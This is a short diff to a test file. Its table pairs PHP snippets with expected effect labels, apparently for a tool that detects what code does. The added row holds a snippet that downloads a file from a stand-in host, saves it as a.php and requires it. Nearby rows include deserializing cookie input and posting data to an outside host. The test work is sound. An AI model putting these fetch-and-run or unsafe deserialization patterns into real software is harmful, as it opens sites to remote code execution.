@@ -169,6 +169,7 @@ describe("libraries", () => {
       "wp_delete_post(1, true); update_option('a', 'b'); wp_remote_post('https://x.example');",
       ["delete", "in x.example", "update"],
     ],
+    ["copy('https://x.example/a', 'a.php'); require 'a.php';", ["anything", "in x.example", "write a.php"]],
     ["unserialize($_COOKIE['a']);", ["deserialize"]],
     ["ldap_delete($a, $b);", ["anything"]],
   ])("%s", (program, effects) => {
